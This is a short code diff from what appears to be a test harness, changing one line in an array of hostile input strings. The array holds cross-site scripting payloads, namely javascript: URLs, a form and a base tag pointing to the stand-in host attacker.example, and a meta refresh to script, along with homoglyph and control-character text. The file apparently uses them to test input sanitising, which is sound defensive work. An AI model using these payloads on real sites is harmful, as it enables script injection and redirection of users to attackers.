@@ -20,7 +20,7 @@ const payloads = [
   `javascript:${run}//"><a href="javascript:${run}">release it</a>`,
   `<form action=https://attacker.example><button formaction=javascript:${run}>Approve`,
   `<base href=https://attacker.example><meta http-equiv=refresh content="0;url=javascript:${run}">`,
-  '\u{1D41A}pprove р\u0430ypal \uFF41dmin \u{E0041}\u{E0042} a\u0000b \uD800 x\u2028y\u00A0z',
+  '\u{1D41A}pprove р\u0430ypal \uFF41dmin \u{E0041}\u{E0042} a\u0000b x\u2028y\u00A0z',
 ];
 /** More of them, one JSON object with a `text` a line, where a file is named. */
 const corpus = process.env.HOLDPOINT_CONSOLE_CORPUS ?? '';
